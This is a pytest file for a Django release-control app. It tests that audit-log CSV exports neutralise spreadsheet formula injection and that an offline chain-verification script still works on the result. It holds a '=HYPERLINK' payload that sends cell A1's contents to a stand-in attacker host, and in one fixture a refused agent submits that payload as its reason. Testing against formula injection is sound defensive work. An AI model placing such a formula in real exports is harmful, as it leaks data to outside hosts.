"""CSV exports never hand a spreadsheet a formula: cells that start like one get a `'` in
front (through the one CSV writer, in Python and in the COPY's SQL alike), and the offline
verification in docs/audit.md undoes exactly that mark and still verifies the chain."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile

import pytest
from django.core.exceptions import PermissionDenied
from django.utils import timezone

from releasecontrol.audit import Target
from releasecontrol.audit.export import audit_export
from releasecontrol.audit.packs import audit_pack_build
from releasecontrol.csvwriter import CsvWriter, neutralise, restore
from releasecontrol.models import AuditEvent
from releasecontrol.policy import authorize
from tests.core.test_audit_export_stream import docs_script, run_script
from tests.factories import audit_event

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")'
FORMULA_STARTS = ["=1+2", "+1", "-1", "@SUM(A1)", "\tx", "\rx"]
# Values a cell holds as recorded; each must come back exactly once the mark is removed.
TRICKY = [*FORMULA_STARTS, "'=quoted", "'", "plain", "", "a=b", "x-y"]


@pytest.mark.parametrize("value", TRICKY)
def test_neutralise__any_text__no_formula_start_and_restore_gives_it_back(value):
    cell = neutralise(value)

    assert not cell.startswith(tuple("=+-@\t\r"))
    assert restore(cell) == value


def test_csv_writer__formula_cells__marked_numbers_and_none_untouched():
    out = io.StringIO()

    CsvWriter(out).writerow([HYPERLINK, -5, None, "ok", 'a "b",\nc\rd'])

    (row,) = csv.reader(io.StringIO(out.getvalue(), newline=""))
    assert row == ["'" + HYPERLINK, "-5", "", "ok", 'a "b",\nc\rd']


@pytest.fixture
def formula_events(system_user, agent, production):
    """A refused agent's HYPERLINK reason, plus every formula start in every text column."""
    with pytest.raises(PermissionDenied):
        authorize(
            agent,
            "killswitch.engage",
            production,
            target=Target("flag", "7", "+new-checkout"),
            reason=HYPERLINK,
        )
    for n, value in enumerate(TRICKY):
        audit_event(
            actor=system_user,
            action=f"test.formula.{n}",
            environment=production,
            target=Target(value or "t", value, value),
            before=-5 if n % 2 else None,  # JSON text "-5": a formula start too
            after={"value": value},
            reason=value,
        )
    return list(AuditEvent.objects.order_by("id"))


def csv_rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode(), newline="")))


def assert_no_formula_cells(rows: list[dict[str, str]]) -> None:
    starts = tuple("=+-@\t\r")
    formulas = [(row["id"], k, v) for row in rows for k, v in row.items() if v.startswith(starts)]
    assert formulas == []


@pytest.mark.django_db(transaction=True)  # the refusal commits on a connection of its own
@pytest.mark.parametrize("method", ["copy", "iterator"])
def test_csv_export__formula_cells__marked_and_restorable(formula_events, method):
    out = io.BytesIO()
    audit_export(fmt="csv", method=method).write_to(out)

    rows = csv_rows(out.getvalue())

    assert_no_formula_cells(rows)
    refused = next(r for r in rows if r["outcome"] == "denied")
    assert refused["reason"] == "'" + HYPERLINK
    assert refused["actor_name"] == "ci-bot"
    by_id = {int(r["id"]): r for r in rows}
    for event in formula_events:
        row = by_id[event.pk]
        assert restore(row["reason"]) == event.reason
        assert restore(row["target_name"]) == event.target_name
        assert restore(row["target_id"]) == event.target_id


@pytest.mark.django_db(transaction=True)
@pytest.mark.parametrize("method", ["copy", "iterator"])
def test_docs_verify_script__export_with_formula_cells__still_verifies(
    formula_events, tmp_path, method
):
    path = tmp_path / "audit.csv"
    with path.open("wb") as out:
        audit_export(fmt="csv", method=method).write_to(out)

    result = run_script(docs_script(tmp_path), str(path))

    assert result.returncode == 0, result.stdout + result.stderr
    assert f"OK: {len(formula_events)} events, chain intact" in result.stdout


@pytest.mark.django_db(transaction=True)
def test_browser_export__refused_agents_hyperlink_reason__not_exported_raw(
    client, auditor, formula_events
):
    client.force_login(auditor)

    response = client.get("/audit/export.csv")

    data = b"".join(response.streaming_content)
    rows = csv_rows(data)
    assert_no_formula_cells(rows)
    assert any(r["reason"] == "'" + HYPERLINK for r in rows)


@pytest.mark.django_db(transaction=True)
def test_audit_pack__events_csv__formula_cells_marked(auditor, formula_events, production):
    now = timezone.now()
    pack = audit_pack_build(
        actor=auditor,
        since=now - dt.timedelta(hours=1),
        until=now + dt.timedelta(minutes=1),
        environment=production,
    )

    with zipfile.ZipFile(pack.file) as archive:
        rows = csv_rows(archive.read("events.csv"))

    assert len(rows) == len([e for e in formula_events if e.environment_id == "production"]) > 10
    assert_no_formula_cells(rows)
